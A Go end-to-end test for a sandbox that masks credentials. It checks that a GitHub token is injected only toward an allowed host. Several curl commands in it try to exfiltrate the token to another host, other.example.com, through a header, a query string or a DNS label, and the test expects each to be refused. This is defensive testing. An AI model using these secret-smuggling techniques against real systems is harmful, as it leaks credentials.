package e2e

import (
	"encoding/pem"
	"io"
	"net"
	"net/http"
	"net/http/cgi"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/agent-mcp/agent-mcp/e2e/internal/sandboxenv"
	"github.com/agent-mcp/agent-mcp/internal/testbin"
	"github.com/agent-mcp/agent-mcp/sandbox"
)

// The masked token of the credential tests, and the one in the masked
// hosts.yml-style file: 40 characters each, as GitHub's are.
const (
	credToken = "ghp_" + "R3alT0kenValue0123456789abcdefABCDEFxy"
	credFile  = "gho_" + "F1leT0kenValue0123456789abcdefABCDEFxy"
)

// authSite is an HTTPS server (httptest's, valid for *.example.com) that
// records the Authorization header of every request by host and path,
// answers "auth ok" when it carries the real token and serves a git
// repository over smart HTTP under /git/ to that token only.
type authSite struct {
	srv    *httptest.Server
	caFile string
	mu     sync.Mutex
	seen   []string // "host path authorization"
}

func (s *authSite) log() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return strings.Join(s.seen, "\n")
}

func newAuthSite(t *testing.T, dir string) *authSite {
	t.Helper()
	repos := filepath.Join(dir, "repos")
	src := filepath.Join(dir, "src")
	for _, args := range [][]string{{"init", "-q", "--bare", filepath.Join(repos, "r.git")}, {"init", "-q", src}} {
		if out, err := exec.Command("git", args...).CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v %s", args, err, out)
		}
	}
	if err := os.WriteFile(filepath.Join(src, "README"), []byte("authenticated\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, args := range [][]string{{"add", "README"}, {"-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "one"},
		{"push", "-q", filepath.Join(repos, "r.git"), "HEAD:refs/heads/main"}} {
		cmd := exec.Command("git", args...)
		cmd.Dir = src
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v %s", args, err, out)
		}
	}
	backend := &cgi.Handler{Path: "/usr/lib/git-core/git-http-backend", Root: "/git",
		Env: []string{"GIT_PROJECT_ROOT=" + repos, "GIT_HTTP_EXPORT_ALL=1"}}
	s := &authSite{}
	s.srv = httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		auth := r.Header.Get("Authorization")
		body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
		r.Body = io.NopCloser(strings.NewReader(string(body)))
		s.mu.Lock()
		s.seen = append(s.seen, r.Host+" "+r.URL.RequestURI()+" "+auth+" "+string(body))
		s.mu.Unlock()
		ok := auth == "Bearer "+credToken || auth == "token "+credToken
		if strings.HasPrefix(r.URL.Path, "/git/") {
			if !ok {
				w.Header().Set("WWW-Authenticate", `Basic realm="git"`)
				http.Error(w, "no", http.StatusUnauthorized)
				return
			}
			backend.ServeHTTP(w, r)
			return
		}
		if ok {
			_, _ = io.WriteString(w, "auth ok "+r.URL.Path)
			return
		}
		http.Error(w, "auth refused", http.StatusUnauthorized)
	}))
	t.Cleanup(s.srv.Close)
	s.caFile = filepath.Join(dir, "site-ca.pem")
	if err := os.WriteFile(s.caFile, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: s.srv.Certificate().Raw}), 0o644); err != nil {
		t.Fatal(err)
	}
	return s
}

// TestCredentials_maskedToken: with GITHUB_TOKEN masked for
// inject.example.com (a local TLS server with its own CA, trusted by the
// proxy through AGENT_MCP_EGRESS_ROOTS), a sandboxed command's env shows
// a sentinel of the token's shape; curl, Python's urllib, git over HTTPS
// and Node's fetch authenticate with the real value; the same request to
// other.example.com (allowed too) is refused and reported, and the
// server there never sees it; a sentinel in a query or a host name is
// refused alike; a masked hosts.yml reads with its token replaced and
// every other line intact (the namespaces layer).
func TestCredentials_maskedToken(t *testing.T) {
	t.Parallel()
	for _, tool := range []string{"curl", "git", "python3"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skipf("%s is not installed", tool)
		}
	}
	sandboxenv.ForEachLayers(t, binary, []string{"namespaces,landlock", "landlock"}, func(t *testing.T, e *sandboxenv.Env, layers string) {
		if layers == "landlock" && supervisorMissing() != "" {
			t.Skipf("no supervised egress proxy with Landlock alone here: %s", supervisorMissing())
		}
		maskedToken(t, e, layers)
	})
}

func maskedToken(t *testing.T, e *sandboxenv.Env, layers string) {
	site := newAuthSite(t, filepath.Join(e.Root, "site"))
	// Not one of the paths the permission check keeps every tool from
	// (~/.config/gh is): a file only the settings name, which the private
	// home hides and the mask brings back as its copy.
	hosts := filepath.Join(e.Home, ".myapp", "hosts.yml")
	hostsYML := "github.com:\n    user: someone\n    oauth_token: " + credFile + "\n    git_protocol: https\n"
	if err := os.MkdirAll(filepath.Dir(hosts), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(hosts, []byte(hostsYML), 0o644); err != nil {
		t.Fatal(err)
	}
	settings := `{"sandbox":{"network":{"allowedDomains":["inject.example.com","other.example.com","127.0.0.1"],"tlsTerminate":{}},
		"credentials":{"envVars":[{"name":"GITHUB_TOKEN","mode":"mask","injectHosts":["inject.example.com"]}],
		"files":[{"path":"~/.myapp/hosts.yml","mode":"mask","extract":"oauth_token: (\\S+)","injectHosts":["inject.example.com"]}]}}}`
	cs, _ := e.Serve(t, layers, []string{"GITHUB_TOKEN=" + credToken,
		sandbox.HostsEnv + "=inject.example.com=127.0.0.1,other.example.com=127.0.0.1",
		sandbox.RootsEnv + "=" + site.caFile}, "--settings", settings)

	port := strconv.Itoa(site.srv.Listener.Addr().(*net.TCPAddr).Port)
	url := func(host, path string) string { return "https://" + host + ":" + port + path }

	out, _ := testbin.Bash(t, cs, `echo "TOKEN=$GITHUB_TOKEN"`, false)
	m := regexp.MustCompile(`TOKEN=(ghp_[A-Za-z0-9]+)`).FindStringSubmatch(out)
	if m == nil || m[1] == credToken || len(m[1]) != len(credToken) {
		t.Fatalf("env inside the sandbox: %q, want a sentinel of the token's shape", out)
	}
	sentinel := m[1]

	authed := func(name, command, path string) {
		t.Helper()
		out, _ := testbin.Bash(t, cs, command, false)
		if !strings.Contains(out, "auth ok "+path) {
			t.Errorf("%s: %q\nthe site saw:\n%s", name, out, site.log())
		}
	}
	authed("curl", `curl -sS --max-time 20 -H "Authorization: Bearer $GITHUB_TOKEN" `+url("inject.example.com", "/curl"), "/curl")
	authed("python urllib", `python3 -c "
import os, urllib.request
r = urllib.request.Request('`+url("inject.example.com", "/urllib")+`', headers={'Authorization': 'token ' + os.environ['GITHUB_TOKEN']})
print(urllib.request.urlopen(r).read().decode())"`, "/urllib")
	out, _ = testbin.Bash(t, cs, `git -c http.extraHeader="Authorization: Bearer $GITHUB_TOKEN" ls-remote `+url("inject.example.com", "/git/r.git")+
		` && git -c http.extraHeader="Authorization: Bearer $GITHUB_TOKEN" clone -q -b main `+url("inject.example.com", "/git/r.git")+` cloned && cat cloned/README`, false)
	if !strings.Contains(out, "refs/heads/main") || !strings.Contains(out, "authenticated") {
		t.Errorf("git ls-remote and clone over HTTPS: %q", out)
	}
	// Node 20's fetch ignores HTTPS_PROXY, and NODE_USE_ENV_PROXY (set by
	// the sandbox) only works from Node 22.21: undici's EnvHttpProxyAgent,
	// set as the global dispatcher, routes it through the proxy.
	if undici := "/usr/lib/node_modules/npm/node_modules/undici"; haveNode(undici) {
		script := `const u = require('` + undici + `'); u.setGlobalDispatcher(new u.EnvHttpProxyAgent());
fetch('` + url("inject.example.com", "/node") + `', {headers: {Authorization: 'Bearer ' + process.env.GITHUB_TOKEN}}).then(r => r.text()).then(console.log, e => console.log('ERR', e, e.cause))`
		authed("node fetch", "node -e "+shellQuote(script), "/node")
	} else {
		t.Log("node with npm's undici is not installed: Node's fetch not tried")
	}

	for name, command := range map[string]string{
		"a header to another allowed host": `curl -sS --max-time 20 -H "Authorization: Bearer $GITHUB_TOKEN" ` + url("other.example.com", "/other-header"),
		"a query to another allowed host":  `curl -sS --max-time 20 "` + url("other.example.com", "/other-query") + `?t=$GITHUB_TOKEN"`,
		"a host name":                      `curl -sS --max-time 20 "https://${GITHUB_TOKEN#ghp_}.other.example.com:` + port + `/dns"`,
	} {
		out, _ := testbin.Bash(t, cs, command, false)
		if !strings.Contains(out, "GITHUB_TOKEN") || !strings.Contains(out, "refused") {
			t.Errorf("%s: not refused and reported: %q", name, out)
		}
	}
	if log := site.log(); strings.Contains(log, "other.example.com") || strings.Contains(log, sentinel) || strings.Contains(log, "/dns") {
		t.Errorf("the site saw a request it should not have:\n%s", log)
	}
	if log := site.log(); !strings.Contains(log, credToken) {
		t.Errorf("the site never saw the real token:\n%s", log)
	}

	if strings.Contains(layers, "namespaces") {
		out, _ = testbin.Bash(t, cs, "cat ~/.myapp/hosts.yml", false)
		fm := regexp.MustCompile(`oauth_token: (gho_[A-Za-z0-9]+)\n`).FindStringSubmatch(out)
		if fm == nil || fm[1] == credFile || len(fm[1]) != len(credFile) || strings.Replace(hostsYML, credFile, fm[1], 1) != strings.TrimSpace(out)+"\n" {
			t.Errorf("the masked hosts.yml reads %q; want the token replaced by a sentinel and the rest as it is", out)
		} else {
			_, _ = testbin.Bash(t, cs, `curl -sS --max-time 20 -H "Authorization: token `+fm[1]+`" `+url("inject.example.com", "/file"), false)
			if log := site.log(); !strings.Contains(log, "/file token "+credFile) {
				t.Errorf("the file's sentinel was not replaced toward inject.example.com:\n%s", log)
			}
		}
	}
}

// haveNode reports whether node and the undici at dir are installed.
func haveNode(undici string) bool {
	if _, err := exec.LookPath("node"); err != nil {
		return false
	}
	_, err := os.Stat(filepath.Join(undici, "index.js"))
	return err == nil
}

func shellQuote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }
